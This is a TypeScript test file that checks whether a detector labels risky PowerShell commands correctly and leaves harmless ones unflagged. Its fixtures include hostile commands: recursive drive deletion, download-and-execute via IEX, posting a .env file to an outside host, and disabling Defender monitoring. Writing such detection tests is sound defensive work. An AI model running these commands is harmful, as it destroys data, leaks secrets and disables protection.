import { expect, test } from 'vitest'
import { readProgramForTest, programLinesForTest } from './read-program-for-test.ts'

const scripts: readonly (readonly [string, string])[] = [
  ['Remove-Item -Recurse -Force C:\\', 'delete / recursive'],
  ['rm -rf /', 'delete / recursive'],
  ['ri $env:USERPROFILE -r -fo', 'delete /home/user recursive'],
  ['Get-ChildItem C:\\Users\\me -Recurse | Remove-Item -Force', 'delete /home/me recursive'],
  ['Get-Process | Where-Object { $_.X } | Remove-Item', 'delete unknown $_'],
  [
    'Set-Content -Path C:\\Windows\\System32\\drivers\\etc\\hosts -Value x',
    'write /usr/System32/drivers/etc/hosts',
  ],
  ["IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')", 'execute powershell download'],
  ['iwr https://a.example/x.ps1 -UseBasicParsing | iex', 'execute powershell download'],
  ["iex 'Remove-Item C:\\ -Recurse'", 'delete / recursive'],
  [
    "iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('eA==')))",
    'execute powershell decoded',
  ],
  ['Invoke-RestMethod -Uri https://a.example -Method Post -InFile .env', 'connect https a.example POST file'],
  ['Set-MpPreference -DisableRealtimeMonitoring $true', 'kernel'],
  ['Remove-Item HKLM:\\Software\\x -Recurse', 'kernel'],
  ['New-LocalUser eve', 'account'],
  ['Register-ScheduledTask -TaskName x', 'schedule'],
  ['Stop-Computer -Force', 'power'],
]

test.each(scripts)('PowerShell: %s is read', (script, expected) => {
  expect(programLinesForTest('powershell', script)).toContain(expected)
})

test.each([
  'Get-ChildItem | Select-Object Name',
  'Write-Host "Remove-Item C:\\ -Recurse"',
  'Remove-Item dist -WhatIf',
  '# Remove-Item C:\\ -Recurse',
])('PowerShell: %s does nothing risky', script =>
  expect(programLinesForTest('powershell', script)).toEqual([]),
)

test.each(['iex ', '(', '"', '| Remove-Item ', 'iex "', '{ '])(
  '%s again and again is read to its end',
  piece => {
    expect(() => readProgramForTest('powershell', piece.repeat(50_000))).not.toThrow()
  },
)
